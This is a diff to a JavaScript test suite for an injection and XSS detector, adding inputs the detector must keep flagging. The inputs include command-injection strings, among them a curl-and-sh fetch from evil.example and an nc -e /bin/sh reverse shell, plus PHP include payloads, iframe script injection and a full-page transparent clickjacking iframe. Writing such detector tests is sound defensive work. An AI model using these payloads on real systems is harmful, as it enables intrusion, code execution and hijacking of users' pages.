@@ -3249,7 +3249,7 @@ t.test("thirty-eighth round: the thirty-third and thirty-fourth parts' false pos
   for (const v of ['b&w', 'B&W prints', 'Q&A', 'photo b&w; 10 cm']) t.same(q(v), [], v)
   for (const v of ['a&w -h', 'x&w>f', '1&w', 'x&&w', "'&w", 'x&id', 'b&w|id', 'x&w <f']) t.ok(q(v).includes('rce'), `still read: ${v}`)
   // (second review) a quote, `^` or `=` glued to the letter makes another program of it: `b&w''atch 'curl …'` ran `watch`
-  for (const v of ["x\";b&w'atch' \"touch /tmp/p\"", "b&w''atch 'curl -o /tmp/x.sh evil.example/x.sh;sh /tmp/x.sh'", 'b&w"sl" sh -c id', "b&w''hich id", 'b&w^hoami', 'b&w;eval touch /tmp/e1', 'b&w;exec touch /tmp/e2', 'b&w;command touch /tmp/e3', 'b&w;x=1 touch /tmp/e4', 'b&w;! touch /tmp/e5', "b&w; eval 'touch /tmp/e6'"]) {
+  for (const v of ["x\";b&w'atch' \"touch /tmp/p\"", "b&w''atch 'curl -o /tmp/x.sh evil.example/x.sh;sh /tmp/x.sh'", 'b&w"sl" sh -c id', "b&w''hich id", 'b&w^hoami', 'b&w;eval touch /tmp/e1', 'b&w;exec touch /tmp/e2', 'b&w;command touch /tmp/e3', 'b&w;x=1 touch /tmp/e4', 'b&w;! touch /tmp/e5', "b&w; eval 'touch /tmp/e6'", 'b&w; 2to3 -w app.py', 'b&w;7z x uploads/a.7z -o/var/www/html -y']) {
     t.ok(q(v).includes('rce'), `still read: ${v}`)
   }
   // (review) what follows `w` is judged too: a substitution, a comment then a line, a redirection by its descriptor ran in bash
@@ -3267,7 +3267,7 @@ t.test("thirty-eighth round: the thirty-third and thirty-fourth parts' false pos
     for (const head of ["resource x 'Microsoft.Web/sites@2022-01-01' = {\n", "module m 'x.bicep' = {\n"]) t.ok(json({ id: 7, code: head + v }).includes('rce'), `still read: ${head}${v}`)
   }
   // (third review) PHP's `trim`, `max`, `join`, `range`, `array` and `empty` are Bicep's names too: only plain arguments or Bicep's own calls
-  for (const v of ['${trim(`touch /tmp/x`)}', '${trim($_GET[0]($_GET[1]))}', '${max(md5(1))}', "${trim(include('/tmp/x.php'))}", '${empty(`id`)}', '${max(print_r(1))}']) {
+  for (const v of ['${trim(`touch /tmp/x`)}', '${trim($_GET[0]($_GET[1]))}', '${max(md5(1))}', "${trim(include('/tmp/x.php'))}", '${empty(`id`)}', '${max(print_r(1))}', "'${trim(include 'pw.php')}'", "${max(include_once 'pw.php', 1)}", '${trim(exit)}', "${join(require 'uploads/avatar.jpg')}"]) {
     t.ok(json({ id: 7, code: `resource site 'Microsoft.Web/sites@2022-03-01' = {\n  name: ${v}\n}` }).includes('rce'), `still read: ${v}`)
   }
   // a static site's page that moved: a refresh to a path on the same site
@@ -3301,10 +3301,18 @@ t.test("thirty-eighth round, after the thirty-fifth part's measurement: a Coq pr
   t.same(json({ id: 7, code: proof }), [], "a Coq proof")
   t.same(json({ id: 7, code: 'Proof.\ncase: b1 b2 => [bb1 b1 |//] [bb2 b2 |//].\ncase: bb1; case: bb2; rewrite /= !bnd_simp mulrzDr.\n- exact: lerD.\nQed.\n' }), [], 'case analysis')
   for (const v of ['x; rewrite /leif', 'Proof. x; nc -e /bin/sh 127.0.0.1 4444. Qed.', 'Proof. x; curl -o /tmp/x http://127.0.0.1/x. Qed.', 'Proof. x; cat /etc/passwd. Qed.']) t.ok(q(v).includes('rce'), `still read: ${v}`)
+  // (fourth review) `split` is coreutils' (`--filter` runs a command), `case` and `done` are the shell's; a `Qed.` anywhere is no proof
+  for (const v of ["1;split --filter='touch pw5' -n1 a.txt # Qed.", "Proof.\nx; split --filter='touch p' -n1 a.txt\nQed.", 'Qed. ; case -x in *) id;; esac', 'Proof.\nx; done -x\nQed.', 'x; rewrite -x # Qed.']) {
+    t.ok(q(v).includes('rce'), `still read: ${JSON.stringify(v)}`)
+  }
   // a post's video as the site gives it to paste
   t.same(json({ description: '## Rationale\n\nThe rationale and vision behind julia.\n\n~~~<iframe width="560" height="315" src="https://www.youtube.com/embed/02U9AJMEWx0" style="border:none;" allowfullscreen></iframe>~~~' }), [], "a post's video")
   t.same(q('<iframe src="https://player.vimeo.com/video/76979871?h=8272103f6e" width="640" height="360" frameborder="0" allow="autoplay; fullscreen; picture-in-picture" allowfullscreen></iframe>'), [], "Vimeo's player")
   for (const v of ['<iframe src="https://www.youtube.com/embed/x" onload="alert(1)"></iframe>', '<iframe src="https://www.youtube.com/embed/x" srcdoc="<script>alert(1)</script>"></iframe>', '<iframe src="https://www.youtube.com/embed/x"><script>alert(1)</script></iframe>', '<iframe src="https://evil.example/embed/x"></iframe>', '<iframe src="https://www.youtube.com/embed/x" style="background:url(javascript:alert(1))"></iframe>', '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>', '<iframe src="https://www.youtube.com/embed/x/../../redirect?q=//evil.example"></iframe>', '<iframe src="https://www.youtube.com/embed/x" name="x"></iframe>', '<iframe src="http://www.youtube.com/embed/x"></iframe>', '<iframe src="https://www.youtube.com/embed/x"></iframe><iframe src="//evil.example/x"></iframe>']) {
+    t.ok(q(v).includes('xss'), `still read: ${v}`)
+  }
+  // (fourth review) a fixed, full-page, transparent player took every click on the page; an id clobbers the page's globals
+  for (const v of ['<iframe id="isAdmin" style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:2147483647;border:0;opacity:0" src="https://www.youtube.com/embed/02U9AJMEWx0?autoplay=1&mute=1&controls=0" allow="camera; microphone; geolocation; display-capture; autoplay" referrerpolicy="unsafe-url"></iframe>', '<iframe style="position:fixed;width:100%;height:100%" src="https://www.youtube.com/embed/x"></iframe>', '<iframe id="isAdmin" src="https://www.youtube.com/embed/x"></iframe>', '<iframe class="modal" src="https://www.youtube.com/embed/x"></iframe>']) {
     t.ok(q(v).includes('xss'), `still read: ${v}`)
   }
   // decoded markup is no embed as sent
